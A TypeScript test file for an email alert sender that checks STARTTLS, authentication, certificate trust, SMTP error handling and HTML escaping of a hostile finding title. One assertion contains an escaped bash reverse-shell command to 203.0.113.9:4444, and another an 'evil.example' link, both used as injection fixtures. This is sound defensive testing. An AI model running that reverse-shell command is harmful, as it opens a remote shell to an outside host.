import { createServer } from 'node:net';
import type { AddressInfo, Server, Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EmailTarget } from '../../../src/cp/notify/channel-sender.js';
import { createEmailSender, emailTargetProblem } from '../../../src/cp/notify/email-sender.js';
import { createCertificateAuthority, issueServerCertificate } from '../../../src/pki/ca.js';
import type { CaMaterial, CertAndKey } from '../../../src/pki/ca.js';
import { parseMail } from './mail-parse.js';
import { HOSTILE_TITLE, digestMessage, failure, finding, findingMessage } from './notify-fixtures.js';
import { smtpReply, startSmtp } from './smtp-test-server.js';
import type { SmtpTestServer } from './smtp-test-server.js';

let ca: CaMaterial;
let cert: CertAndKey;
const servers: SmtpTestServer[] = [];
const sender = createEmailSender();

beforeAll(async () => {
  ca = await createCertificateAuthority({ commonName: 'notify test CA' });
  cert = await issueServerCertificate(ca, { dnsNames: ['localhost'], ipAddresses: ['127.0.0.1'] });
});

afterAll(async () => {
  await Promise.all(servers.map((s) => s.close()));
});

/** A STARTTLS server with the test certificate, AUTH required (over TLS only), plus `extra`. */
async function server(extra: Parameters<typeof startSmtp>[0] = {}): Promise<SmtpTestServer> {
  const s = await startSmtp({ key: cert.keyPem, cert: cert.certPem, authMethods: ['PLAIN', 'LOGIN'], ...extra });
  servers.push(s);
  return s;
}

const target = (s: SmtpTestServer, over: Partial<EmailTarget> = {}): EmailTarget => ({
  kind: 'email',
  host: '127.0.0.1',
  port: s.port,
  tls: 'starttls',
  user: 'alice',
  password: 's3cret',
  from: 'Okesu <alerts@example.com>',
  to: ['oncall@example.com', 'sec@example.com'],
  caPem: ca.certPem,
  ...over,
});

describe('email sender against a local smtp-server', () => {
  it('STARTTLS, AUTH PLAIN, and the message: subject, envelope, headers, escaped HTML', async () => {
    const s = await server({ authMethods: ['PLAIN'] });
    const receipt = await sender.send(target(s), findingMessage(finding({ title: HOSTILE_TITLE })), { timeoutMs: 10_000 });
    expect(receipt).toMatch(/^250 .*Queued as T1 <okesu\.d-1@example\.com>$/);
    expect(s.auths).toEqual([{ method: 'PLAIN', username: 'alice', password: 's3cret', secure: true }]);
    expect(s.mails).toHaveLength(1);
    const got = s.mails[0];
    expect(got?.secure).toBe(true);
    expect(got?.user).toBe('alice');
    expect(got?.mailFrom).toBe('alerts@example.com');
    expect(got?.rcptTo).toEqual(['oncall@example.com', 'sec@example.com']);
    const mail = parseMail(got?.raw ?? '');
    expect(mail.headers.get('subject')).toBe(`[okesu] HIGH ${HOSTILE_TITLE} — web-1`);
    expect(mail.headers.get('from')).toBe('Okesu <alerts@example.com>');
    expect(mail.headers.get('to')).toBe('oncall@example.com, sec@example.com');
    expect(mail.headers.get('message-id')).toBe('<okesu.d-1@example.com>');
    expect(mail.headers.get('x-okesu-delivery-id')).toBe('d-1');
    expect(mail.text).toContain(`HIGH  ${HOSTILE_TITLE}`);
    expect(mail.text).toContain('https://cp.example:8443/v1/findings/42');
    expect(mail.html).toContain('&#60;!channel&#62; &#60;https://evil.example|click&#62; &#60;@U123&#62; &#38; co');
    expect(mail.html).not.toContain('<!channel>');
    expect(mail.html).not.toContain('<https://evil');
    expect(mail.html).toContain('<a href="https://cp.example:8443/v1/findings/42">Finding 42</a>');
    expect(mail.html).toContain('bash -i &#62;&#38; /dev/tcp/203.0.113.9/4444 0&#62;&#38;1');
  });

  it('AUTH LOGIN when that is what the server offers; a digest', async () => {
    const s = await server({ authMethods: ['LOGIN'] });
    await sender.send(target(s), digestMessage(3, 12), { timeoutMs: 10_000 });
    expect(s.auths.map((a) => [a.method, a.secure])).toEqual([['LOGIN', true]]);
    const mail = parseMail(s.mails[0]?.raw ?? '');
    expect(mail.headers.get('subject')).toBe('[okesu] CRITICAL Digest: 12 findings in 3 groups');
    expect(mail.html).toContain('<li><b>HIGH</b> Group 2 — host-2 (proc-watch)');
  });

  it('implicit TLS', async () => {
    const s = await server({ secure: true });
    await sender.send(target(s, { tls: 'implicit' }), findingMessage(), { timeoutMs: 10_000 });
    expect(s.mails[0]?.secure).toBe(true);
  });

  it('a server that does not offer STARTTLS is refused: nothing is sent in clear, not retryable', async () => {
    const s = await server({ disabledCommands: ['STARTTLS'], allowInsecureAuth: true, authOptional: true });
    const err = await failure(sender.send(target(s), findingMessage(), { timeoutMs: 10_000 }));
    expect(err.retryable).toBe(false);
    expect(err.message).toMatch(/STARTTLS/);
    expect(err.message).toContain(`SMTP 127.0.0.1:${s.port}`);
    expect(s.auths).toEqual([]);
    expect(s.mailFroms).toBe(0);
    expect(s.mails).toEqual([]);
  });

  it('a certificate the channel does not trust is refused, not retryable', async () => {
    const s = await server();
    const { caPem: _dropped, ...untrusted } = target(s);
    const err = await failure(sender.send(untrusted, findingMessage(), { timeoutMs: 10_000 }));
    expect(err.retryable).toBe(false);
    expect(err.message).toMatch(/certificate/);
    expect(s.auths).toEqual([]);
  });

  it.each([
    ['a wrong password (535)', { password: 'nope' }, {}, false, /535/],
    ['a rejected recipient (550)', {}, { onRcptTo: 550 }, false, /550/],
    ['a temporary failure at DATA (451)', {}, { onData: 451 }, true, /451/],
  ])('%s', async (_name, over: Partial<EmailTarget>, fail: { onRcptTo?: number; onData?: number }, retryable, said) => {
    const s = await server({
      ...(fail.onRcptTo ? { onRcptTo: (_a, _s, cb) => cb(smtpReply(fail.onRcptTo as number, 'No such user here')) } : {}),
      ...(fail.onData
        ? {
            onData: (stream, _s, cb) => {
              stream.resume();
              stream.on('end', () => cb(smtpReply(fail.onData as number, 'Try again later')));
            },
          }
        : {}),
    });
    const err = await failure(sender.send(target(s, over), findingMessage(), { timeoutMs: 10_000 }));
    expect(err.retryable).toBe(retryable);
    expect(err.message).toMatch(said);
    expect(err.message).not.toContain('s3cret');
  });

  it('one rejected recipient of two: delivered to the other, the receipt names the rejected one', async () => {
    const s = await server({ onRcptTo: (a, _s, cb) => cb(a.address.startsWith('sec@') ? smtpReply(550, 'No such user here') : null) });
    const receipt = await sender.send(target(s), findingMessage(), { timeoutMs: 10_000 });
    expect(receipt).toMatch(/\(rejected: sec@example\.com\)$/);
    expect(s.mails[0]?.rcptTo).toEqual(['oncall@example.com']);
  });

  it('tls none: only on loopback, in clear', async () => {
    const s = await server({ secure: false, disabledCommands: ['STARTTLS', 'AUTH'], authOptional: true });
    await sender.send(target(s, { tls: 'none', user: undefined, password: undefined }), findingMessage(), { timeoutMs: 10_000 });
    expect(s.mails[0]?.secure).toBe(false);
    const err = await failure(sender.send(target(s, { tls: 'none', host: 'mail.example.com' }), findingMessage(), { timeoutMs: 10_000 }));
    expect(err.retryable).toBe(false);
    expect(err.message).toMatch(/only for a loopback SMTP server/);
  });

  it('a server that never greets: a retryable timeout, on time', async () => {
    const sockets: Socket[] = [];
    const silent: Server = createServer((socket) => sockets.push(socket));
    await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
    const port = (silent.address() as AddressInfo).port;
    const started = Date.now();
    const err = await failure(sender.send({ ...target({ port } as SmtpTestServer) }, findingMessage(), { timeoutMs: 400 }));
    expect(err.retryable).toBe(true);
    expect(err.message).toMatch(/no answer within 400 ms/);
    expect(Date.now() - started).toBeLessThan(5000);
    for (const socket of sockets) socket.destroy();
    await new Promise((resolve) => silent.close(resolve));
  });
});

describe('emailTargetProblem', () => {
  const base: EmailTarget = { kind: 'email', host: 'smtp.example.com', port: 587, tls: 'starttls', from: 'a@example.com', to: ['b@example.com'] };
  it.each([
    [{}, undefined],
    [{ to: [] }, 'no recipient'],
    [{ port: 0 }, 'not 1-65535'],
    [{ tls: 'none' as const }, 'only for a loopback'],
    [{ tls: 'none' as const, host: '127.0.0.1' }, undefined],
    [{ password: 'x' }, 'needs a user'],
  ])('%j', (over, problem) => {
    const got = emailTargetProblem({ ...base, ...over });
    if (problem === undefined) expect(got).toBeUndefined();
    else expect(got).toContain(problem);
  });
});
